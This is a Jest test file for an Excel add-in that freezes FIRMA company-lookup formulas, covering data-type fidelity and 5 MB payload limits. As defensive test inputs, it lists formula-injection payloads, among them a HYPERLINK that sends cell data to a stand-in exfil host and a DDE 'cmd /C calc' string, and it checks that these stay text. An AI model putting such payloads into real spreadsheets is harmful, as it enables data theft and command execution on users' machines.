/**
 * The pane's Excel adapter (src/taskpane/excel.ts) against the Excel stand-in (test/support/excel/, the
 * same bundled script the browser tests inject), run in Node: what a freeze writes back, and Excel on the web's
 * 5 MB limit on every read and write at 100,000 cells.
 *
 * - Range.values takes strings as typed input ("0111" → 111, "=…" → a formula) unless the cell is
 *   formatted "@"; a card reads as its #VALUE! basic value
 *   (https://learn.microsoft.com/javascript/api/excel/excel.range#excel-excel-range-values-member,
 *   https://learn.microsoft.com/javascript/api/excel/excel.entitycellvalue);
 * - Range.valuesAsJson (ExcelApi 1.16) writes every data type back as it was;
 * - "Excel on the web has a payload size limit for requests and responses of 5MB"
 *   (https://learn.microsoft.com/office/dev/add-ins/concepts/resource-limits-and-performance-optimization).
 */
import * as fs from "fs";
import * as path from "path";
import * as vm from "vm";
import { standInScript } from "../support/excel/bundle";
import { ExcelWorkbook } from "../../src/taskpane/excel";
import { checkTextWrites, UnsafeTextWrite, writeAreas, type Write } from "../../src/taskpane/blocks";
import type { FormulaCell } from "../../src/taskpane/refresh-plan";
import type { StandIn } from "./harness";

const STANDIN = standInScript();
const LIMIT = 5 * 1024 * 1024;

type NodeStandIn = StandIn;

/** A fresh stand-in in its own context; `Excel` is its global for the adapter. `excelApi`: the newest set it has. */
function excel(excelApi = "1.17"): NodeStandIn {
  const win: Record<string, unknown> = { setTimeout, clearTimeout, console, fetch: () => Promise.reject(new Error("no fetch here")) };
  win.window = win;
  win.top = win;
  vm.runInContext(STANDIN, vm.createContext(win));
  const S = win.__firmaStandIn as NodeStandIn;
  S.excelApi = excelApi;
  S.meta = []; // no functions are calculated here: the cells are set up with what they show
  S.metaPromise = Promise.resolve();
  (globalThis as Record<string, unknown>).Excel = win.Excel;
  return S;
}

const wb = (S: NodeStandIn) => new ExcelWorkbook((v) => Number(S.excelApi.split(".")[1]) >= Number(v.split(".")[1]));

/** A FISA card as Excel holds it (https://learn.microsoft.com/javascript/api/excel/excel.entitycellvalue). */
const CARD = {
  type: "Entity",
  text: "ALFA AGRO SRL",
  properties: {
    CUI: { type: "Double", basicValue: 14399840 },
    Denumire: { type: "String", basicValue: "ALFA AGRO SRL" },
    CAEN: { type: "String", basicValue: "0111" },
  },
  layouts: { card: { title: { property: "Denumire" }, sections: [{ layout: "List", properties: ["CUI", "CAEN"] }] } },
};

/** B2: CAEN "0111" (text), B3: a name that starts with "=", B4: a card, B5: a number, B6: #N/A, C7:E7 a spilled row. */
const THREE = {
  sheets: {
    Foaie1: {
      A2: 14399840,
      B2: { formula: "=FIRMA.CAEN(A2)", value: "0111" },
      B3: { formula: "=FIRMA.DENUMIRE(A2)", value: "=1+1 SRL" },
      B4: { formula: "=FIRMA.FISA(A2)", value: "#VALUE!", rich: CARD },
      B5: { formula: "=FIRMA.CA(A2)", value: 1234567 },
      B6: { formula: "=FIRMA.DENUMIRE(A9)", value: "#N/A", error: true },
      C7: { formula: "=FIRMA.PROFIL(A2)", result: [[14399840, "0111", true]] },
      A10: { formula: "=SUM(1,1)", value: 2 },
    },
  },
  selection: "Foaie1!A1:K10",
};

async function frozen(S: NodeStandIn) {
  const r = await wb(S).freezeSelection();
  const cell = (a: string) => S.cell("Foaie1", a);
  return { r, cell };
}

describe("freeze keeps exactly what the cell showed", () => {
  test("with Range.valuesAsJson (ExcelApi 1.16): text stays text, a name starting with = stays text, a card stays a card, numbers and errors stay", async () => {
    const S = excel("1.17");
    await S.setup(THREE);
    const { r, cell } = await frozen(S);
    expect(r).toEqual({ frozen: 6, busy: false, cardsAsText: 0, left: 0 });
    expect(cell("B2")).toMatchObject({ formula: null, value: "0111" });
    expect(cell("B3")).toMatchObject({ formula: null, value: "=1+1 SRL" });
    expect(cell("B4")).toMatchObject({ formula: null, rich: expect.objectContaining({ type: "Entity", text: "ALFA AGRO SRL" }) });
    expect(cell("B4").rich!.properties).toEqual(CARD.properties);
    expect(cell("B5")).toMatchObject({ formula: null, value: 1234567 });
    expect(cell("B6")).toMatchObject({ formula: null, error: "#N/A" });
    expect(cell("C7")).toMatchObject({ formula: null, value: 14399840 });
    expect(cell("D7")).toMatchObject({ formula: null, value: "0111" });
    expect(cell("E7")).toMatchObject({ formula: null, value: true });
    expect(cell("A10")).toMatchObject({ formula: "=SUM(1,1)" }); // not a FIRMA formula
    expect(S.writes.every((w) => (w as { json?: boolean }).json)).toBe(true);
  });

  test("without it (ExcelApi 1.15): text cells get the @ format first, a card becomes its text, the pane is told how many", async () => {
    const S = excel("1.15");
    await S.setup(THREE);
    expect(wb(S).support().freezeKeepsCards).toBe(false);
    const { r, cell } = await frozen(S);
    expect(r).toEqual({ frozen: 6, busy: false, cardsAsText: 1, left: 0 });
    expect(cell("B2")).toMatchObject({ formula: null, value: "0111", textFormat: true });
    expect(cell("B3")).toMatchObject({ formula: null, value: "=1+1 SRL", textFormat: true });
    expect(cell("B4")).toMatchObject({ formula: null, value: "ALFA AGRO SRL", rich: null, textFormat: true });
    expect(cell("B5")).toMatchObject({ formula: null, value: 1234567, textFormat: false });
    expect(cell("B6")).toMatchObject({ formula: null, error: "#N/A" });
    expect(cell("D7")).toMatchObject({ formula: null, value: "0111", textFormat: true });
  });

  test("the old way (cell.values = cell.values) is what the stand-in refuses to let pass: it would have turned 0111 into 111 and the name into a formula", async () => {
    const S = excel("1.17");
    await S.setup(THREE);
    await (globalThis as unknown as { Excel: typeof Excel }).Excel.run(async (context) => {
      const r = context.workbook.worksheets.getItem("Foaie1").getRange("B2:B4");
      r.load("values");
      await context.sync();
      r.values = r.values; // eslint-disable-line no-self-assign
      await context.sync();
    });
    expect(S.cell("Foaie1", "B2").value).toBe(111);
    expect(S.cell("Foaie1", "B3").formula).toBe("=1+1 SRL");
    expect(S.cell("Foaie1", "B4")).toMatchObject({ error: "#VALUE!", rich: null });
  });

  test("a selection with no FIRMA formula: nothing written; a cell still calculating: nothing written", async () => {
    const S = excel();
    await S.setup({ ...THREE, selection: "Foaie1!A1:A10" });
    expect((await frozen(S)).r).toMatchObject({ frozen: 0, busy: false });
    expect(S.writes).toEqual([]);
    await S.setup({
      sheets: { Foaie1: { ...THREE.sheets.Foaie1, B8: { formula: "=FIRMA.STARE(A2)", value: "#BUSY!", error: true } } },
      selection: "Foaie1!A1:K10",
    });
    expect((await frozen(S)).r).toMatchObject({ frozen: 0, busy: true });
    expect(S.writes).toEqual([]);
  });
});

/** A company's text as a careless or hostile source could send it: each formula trigger first. */
const TRIGGERED = ['=HYPERLINK("https://exfil.invalid/?"&A1,"x") SRL', "+cmd|' /C calc'!A0 SRL", "-2+3 SRL", "@SUM(1+9) SRL"];

describe("the service's text written by the pane stays text, never a formula", () => {
  test("freeze without Range.valuesAsJson: names that begin with each trigger, in cells already formatted @, stay text", async () => {
    const S = excel("1.15");
    const cells: Record<string, unknown> = {};
    TRIGGERED.forEach((name, i) => {
      cells[`A${i + 2}`] = 14399840;
      cells[`B${i + 2}`] = { formula: `=FIRMA.DENUMIRE(A${i + 2})`, value: name };
    });
    await S.setup({ sheets: { Foaie1: cells }, selection: "Foaie1!A1:B9" });
    // Already formatted as text: the freeze formats them again, so that its writes carry the proof writeAreas asks for.
    await (globalThis as unknown as { Excel: typeof Excel }).Excel.run(async (context) => {
      context.workbook.worksheets.getItem("Foaie1").getRange("B2:B5").numberFormat = [["@"], ["@"], ["@"], ["@"]];
      await context.sync();
    });
    const { r, cell } = await frozen(S);
    expect(r).toEqual({ frozen: 4, busy: false, cardsAsText: 0, left: 0 });
    TRIGGERED.forEach((name, i) => expect(cell(`B${i + 2}`)).toMatchObject({ formula: null, value: name, textFormat: true }));
  });

  test("the changes sheet: text columns that begin with each trigger stay text; the CUI stays a number", async () => {
    const S = excel("1.17");
    await S.setup({ sheets: { Foaie1: {} } });
    const rows = [["CUI", "Firmă", "Câmp", "Înainte", "După"], ...TRIGGERED.map((t, i) => [14399840 + i, t, "Stare", t, `-${t}`])];
    const name = await wb(S).writeSheet("Schimbări", rows, [1, 2, 3, 4]);
    TRIGGERED.forEach((t, i) => {
      expect(S.cell(name, `A${i + 2}`)).toMatchObject({ formula: null, value: 14399840 + i });
      expect(S.cell(name, `B${i + 2}`)).toMatchObject({ formula: null, value: t, textFormat: true });
      expect(S.cell(name, `D${i + 2}`)).toMatchObject({ formula: null, value: t, textFormat: true });
      expect(S.cell(name, `E${i + 2}`)).toMatchObject({ formula: null, value: `-${t}`, textFormat: true });
    });
  });

  test("a write of such text without the text format first is refused before anything is sent: a new writer cannot forget it", async () => {
    const S = excel("1.17");
    await S.setup({ sheets: { Foaie1: {} } });
    const area = { sheet: "Foaie1", top: 1, left: 1, rows: 2, cols: 1 };
    for (const text of TRIGGERED) {
      const run = (writes: Write[]) =>
        (globalThis as unknown as { Excel: typeof Excel }).Excel.run((context) => writeAreas(context, writes));
      await expect(run([{ area, property: "values", data: [["ok"], [text]] }])).rejects.toThrow(UnsafeTextWrite);
      // Formatted "@" elsewhere, or formatted and then unformatted: refused too.
      await expect(
        run([
          { area: { ...area, left: 2 }, property: "numberFormat", data: [["@"], ["@"]] },
          { area, property: "values", data: [["ok"], [text]] },
        ]),
      ).rejects.toThrow(/Foaie1!R2C1/);
      await expect(
        run([
          { area, property: "numberFormat", data: [["@"], ["@"]] },
          { area, property: "numberFormat", data: [["@"], ["General"]] },
          { area, property: "values", data: [["ok"], [text]] },
        ]),
      ).rejects.toThrow(UnsafeTextWrite);
      expect(S.writes).toEqual([]);
      expect(S.cell("Foaie1", "A2")).toMatchObject({ formula: null, value: "" });
    }
    // Numbers, ordinary text and formulas written as formulas are not its business.
    expect(() =>
      checkTextWrites([
        { area, property: "values", data: [[-1200], ["SC A=B SRL"]] },
        { area, property: "formulas", data: [["=FIRMA.DENUMIRE(A1)"], ["=1+1"]] },
      ]),
    ).not.toThrow();
  });

  test("every write of the pane goes through writeAreas: no other file of src/taskpane or src/office sets a range's values or formulas", () => {
    const roots = ["src/taskpane", "src/office"].map((d) => path.join(__dirname, "..", "..", d));
    const files: string[] = [];
    const walk = (d: string) =>
      fs
        .readdirSync(d, { withFileTypes: true })
        .forEach((e) => (e.isDirectory() ? walk(path.join(d, e.name)) : e.name.endsWith(".ts") && files.push(path.join(d, e.name))));
    roots.forEach(walk);
    expect(files.length).toBeGreaterThan(10);
    const setters = files
      .filter((f) => !f.endsWith(path.join("taskpane", "blocks.ts")))
      .filter((f) =>
        /\.(values|formulas|valuesAsJson|formulasLocal|formulasR1C1)\s*=(?!=)|\[\s*["'](values|formulas)["']\s*\]\s*=(?!=)/.test(
          fs.readFileSync(f, "utf8").replace(/\/\*[\s\S]*?\*\/|\/\/.*$/gm, ""),
        ),
      );
    expect(setters).toEqual([]);
  });
});

describe("Excel on the web's 5 MB limit at 100,000 cells", () => {
  const ROWS = Number(process.env.FIRMA_SHEET_ROWS ?? 100_000);
  /** 100,000 FIRMA cells showing addresses of about 60 characters: some 6.5 MB of values, more than one sync may carry. */
  function big(rows = ROWS): { sheets: Record<string, Record<string, unknown>>; selection: string } {
    const cells: Record<string, unknown> = {};
    for (let r = 1; r <= rows; r++) {
      cells[`A${r}`] = 10_000_000 + r;
      cells[`B${r}`] = { formula: `=FIRMA.ADRESA(A${r})`, value: `Str. Principală nr. ${r}, bl. ${r % 97}, sc. A, ap. ${r % 300}, et. 4` };
    }
    return { sheets: { Foaie1: cells }, selection: `Foaie1!B1:B${rows}` };
  }
  const formulaCells = (): FormulaCell[] =>
    Array.from({ length: ROWS }, (_, i) => ({
      sheet: "Foaie1",
      row: i + 1,
      col: 2,
      formula: `=FIRMA.ADRESA(A${i + 1})`,
      value: "",
      error: false,
    }));

  // 100,000 cells with valuesAsJson; the fallback's reads and writes are the same blocks, at a fifth of the size (20,000: more than two writes).
  test.each([
    ["1.17", ROWS],
    ["1.15", ROWS / 5],
  ])(
    "freeze (ExcelApi %s, %d cells): every sync's request and answer under 5 MB, every value kept",
    async (api, rows) => {
      const S = excel(api);
      await S.setup(big(rows));
      const { r, cell } = await frozen(S);
      expect(r).toMatchObject({ frozen: rows, busy: false, left: 0 });
      expect(S.maxAnswerBytes).toBeGreaterThan(500_000); // blocks are not needlessly small…
      expect(S.maxAnswerBytes).toBeLessThanOrEqual(LIMIT); // …and never over the limit
      expect(S.maxRequestBytes).toBeLessThanOrEqual(LIMIT);
      expect(S.writes.length).toBeGreaterThan(2);
      for (const row of [1, Math.floor(rows / 2) + 1, rows])
        expect(cell(`B${row}`)).toMatchObject({ formula: null, value: expect.stringMatching(`^Str. Principală nr. ${row},`) });
    },
    120_000,
  );

  test("state, recalculation and entering formulas again: every sync under 5 MB", async () => {
    const S = excel();
    await S.setup(big());
    const host = wb(S);
    const cells = formulaCells();
    expect(await host.state(cells)).toEqual({ busy: 0, errors: 0 });
    await host.recalculate(cells.filter((_, i) => i % 2 === 0)); // 50,000 ranges of one cell
    await host.reenter(cells);
    expect(S.maxAnswerBytes).toBeLessThanOrEqual(LIMIT);
    expect(S.maxRequestBytes).toBeLessThanOrEqual(LIMIT);
    expect(S.cell("Foaie1", `B${ROWS}`).formula).toBe(`=FIRMA.ADRESA(A${ROWS})`);
  }, 120_000);

  test("an Excel whose limit is lower than the blocks FIRMA sizes: reads and writes are halved until they pass", async () => {
    const S = excel();
    await S.setup(big(ROWS / 10));
    S.payloadLimit = 300_000;
    const { r } = await frozen(S);
    expect(r).toMatchObject({ frozen: ROWS / 10, left: 0 });
    expect(S.maxAnswerBytes).toBeLessThanOrEqual(300_000);
    expect(S.maxRequestBytes).toBeLessThanOrEqual(300_000);
  }, 120_000);
});
